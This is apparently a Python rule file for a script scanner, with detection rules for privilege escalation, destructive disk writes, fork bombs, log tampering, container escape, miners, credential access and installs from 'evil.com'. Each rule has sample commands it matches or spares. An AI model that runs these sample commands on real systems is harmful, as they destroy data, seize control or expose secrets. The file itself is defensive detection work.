"""Rules about the machine itself: rights, processes, services, resources."""

from refute.scan.finding import Severity
from refute.scan.rules import Mild, Rule, py, sh

SYSTEM_RULES = (
    Rule(
        id="privilege",
        title="Asks for more rights",
        severity=Severity.HIGH,
        explanation="Runs something as another user.",
        remedy="A verification needs no more rights than it has; remove the word.",
        matches=(
            *sh("sudo -i", "su -c id", "pkexec sh", "echo pw | sudo -S id", "sudo /tmp/x"),
            *py("import subprocess\nsubprocess.run(['sudo', 'su'])"),
        ),
        spares=(*sh("echo sudo", "grep sudo README.md", "sudo make install", "sudo -u postgres psql -c 'select 1'"),),
    ),
    Rule(
        id="permission-change",
        title="Changes rights or owners outside the workspace",
        severity=Severity.HIGH,
        explanation="Changes who may use files of the system.",
        remedy="Change modes only of files in the workspace.",
        matches=(
            *sh("chmod 777 /etc", "chown -R me /usr/local", "chattr -i /etc/hosts", "chmod 644 /etc/shadow"),
            *py("import os\nos.chmod('/etc/hosts', 0o777)"),
        ),
        spares=(
            *sh("chmod +x run.sh", "chmod -R u+w build", "chmod 0755 /etc/tool", "chmod 600 ~/.toolrc"),
            *py("import os\nos.chmod('x.sh', 0o755)"),
        ),
    ),
    Rule(
        id="setuid",
        title="Gives a program its owner's rights",
        severity=Severity.CRITICAL,
        explanation="Sets the setuid or setgid bit, or a file capability.",
        remedy="Remove it; nothing under test needs it.",
        matches=(
            *sh("chmod u+s x", "chmod 4755 x", "setcap cap_setuid+ep ./x"),
            *py("import os\nos.chmod('x', 0o4755)"),
        ),
        spares=(*sh("chmod 0755 x", "chmod u+x x"),),
    ),
    Rule(
        id="device-write",
        title="Overwrites a disk or destroys data",
        severity=Severity.CRITICAL,
        explanation="Formats, wipes or writes a device, or destroys files beyond recovery.",
        remedy="Work on a plain file in the workspace.",
        matches=(
            *sh("dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "shred -u /etc/hosts", "echo x > /dev/sda"),
        ),
        spares=(*sh("dd if=/dev/zero of=disk.img bs=1M count=1", "shred -u build/key"),),
    ),
    Rule(
        id="fork-bomb",
        title="Starts copies of itself without end",
        severity=Severity.CRITICAL,
        explanation="Multiplies processes until the machine stops.",
        remedy="Bound the number of processes.",
        matches=(*sh(":(){ :|:& };:", "f() { f & f & }; f"), *py("import os\nwhile True:\n    os.fork()")),
        spares=(*sh("f() { echo; }; f & wait"), *py("import os\npid = os.fork()")),
    ),
    Rule(
        id="resource-exhaustion",
        title="Fills the disk or the memory",
        severity=Severity.HIGH,
        explanation="Writes without end, or far more than a test needs.",
        remedy="Bound the amount.",
        matches=(*sh("yes > big", "dd if=/dev/zero of=big", "fallocate -l 500G big"),),
        spares=(*sh("yes | head -3", "dd if=/dev/zero of=f bs=1k count=4"),),
    ),
    Rule(
        id="kill-process",
        title="Ends processes that it did not start",
        severity=Severity.HIGH,
        explanation="Signals processes by name, or by an id that is not its own child's.",
        remedy='Keep the id of what was started: `server & pid=$!; …; kill "$pid"`.',
        mild=Mild(
            title="Ends a process that may not be its own",
            explanation="Signals a process that this scan cannot tell from the script's own.",
            remedy='Keep the id of what was started: `server & pid=$!; …; kill "$pid"`.',
        ),
        matches=(*sh("kill -9 -1", "pkill sshd", "kill 1"), *py("import os\nos.kill(1, 9)")),
        spares=(
            *sh('sleep 5 & kill "$!"', "kill %1", "kill -0 $$", "./build/server &\nkillall server"),
            *py("import os\nos.kill(os.getpid(), 0)"),
        ),
    ),
    Rule(
        id="system-control",
        title="Controls the machine",
        severity=Severity.HIGH,
        explanation="Changes services, accounts, kernel, mounts or firewall, or halts the machine.",
        remedy="A verification leaves the machine alone; remove the command.",
        matches=(
            *sh("reboot", "systemctl stop ssh", "useradd x", "modprobe x", "mount /dev/sda1 /mnt", "iptables -F"),
        ),
        spares=(
            *sh("systemctl status x", "mount", "sysctl -n kern.osrelease", "service redis restart", "ldconfig"),
            *sh("iptables -L -n", "umount build/mnt", "invoke-rc.d tool status"),
        ),
    ),
    Rule(
        id="history-tampering",
        title="Hides its traces",
        severity=Severity.HIGH,
        explanation="Clears or switches off the shell's history or system logs.",
        remedy="Remove it.",
        matches=(*sh("history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "ln -sf /dev/null ~/.bash_history"),),
        spares=(*sh("echo history"),),
    ),
    Rule(
        id="crypto-miner",
        title="Mines cryptocurrency",
        severity=Severity.CRITICAL,
        explanation="Runs a known miner or talks to a mining pool.",
        remedy="Remove it.",
        matches=(*sh("./xmrig -o pool:3333", "minerd --url stratum+tcp://pool:3333"),),
        spares=(*sh("echo mining data"),),
    ),
    Rule(
        id="package-install",
        title="Installs software from outside",
        severity=Severity.HIGH,
        explanation="Fetches and runs other people's code, with its install scripts.",
        remedy="Declare it under `requirements` of the ticket.",
        matches=(
            *sh("apt-get install -y nmap", "curl x | pip install y", "pip install --index-url http://evil.com/ x"),
            *sh("pip install git+https://github.com/a/b", "apt-get -y purge ufw", "npm install http://evil.com/x.tgz"),
        ),
        spares=(
            *sh("pip --version", "pip install --no-index --no-deps .", "apt-cache policy bash"),
            *sh("pip install requests", "apt-get install -y gcc", "npm install -g prettier"),
        ),
    ),
    Rule(
        id="container-escape",
        title="Reaches for the container engine or other namespaces",
        severity=Severity.CRITICAL,
        explanation="Control over the engine or another namespace is control over the machine.",
        remedy="Remove it; the sandbox has no engine.",
        mild=Mild(
            title="Uses a container engine",
            explanation="Builds, runs or asks for containers.",
            remedy="Leave that to another script: the sandbox has no engine.",
        ),
        matches=(
            *sh(
                "docker run -v /:/host alpine",
                "curl --unix-socket /var/run/docker.sock http://x/",
                "nsenter -t 1 -m sh",
            ),
        ),
        spares=(*sh("docker --version"),),
    ),
    Rule(
        id="cloud-control",
        title="Uses a cloud account",
        severity=Severity.HIGH,
        explanation="Acts on a cloud or cluster with whatever credentials it finds.",
        remedy="Use a fake of the service.",
        matches=(*sh("aws s3 cp x s3://bucket/", "kubectl get secrets", "gcloud auth print-access-token"),),
        spares=(*sh("aws --version"),),
    ),
    Rule(
        id="attack-tool",
        title="Runs a tool for attacks or eavesdropping",
        severity=Severity.HIGH,
        explanation="Scans networks, captures traffic or keys, or cracks passwords.",
        remedy="Remove it.",
        matches=(*sh("nmap -sS 10.0.0.0/24", "tcpdump -i eth0"),),
        spares=(*sh("man nmap"),),
    ),
    Rule(
        id="preload",
        title="Slips code into other programs",
        severity=Severity.HIGH,
        explanation="Makes other programs load a library or start-up code of the script's choosing.",
        remedy="Call the program directly.",
        matches=(
            *sh("LD_PRELOAD=./x.so ls", "export LD_PRELOAD=/tmp/x.so"),
            *py("import os\nos.environ['LD_PRELOAD'] = './x.so'"),
        ),
        spares=(*sh("LD_LIBRARY_PATH=. ./x", "unset LD_PRELOAD"),),
    ),
)
